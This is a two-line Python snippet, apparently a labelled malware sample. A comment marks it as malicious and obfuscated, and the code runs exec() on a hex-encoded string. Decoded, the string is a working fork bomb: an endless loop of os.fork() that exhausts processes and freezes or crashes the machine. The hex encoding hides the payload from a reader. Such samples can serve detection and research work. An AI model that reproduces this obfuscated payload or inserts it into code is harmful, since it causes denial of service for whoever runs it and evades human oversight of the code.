# Malicious, obfuscated: exec(bytes.fromhex(...)) of a fork bomb.
exec(bytes.fromhex("696d706f7274206f730a7768696c6520547275653a0a202020206f732e666f726b28290a").decode())
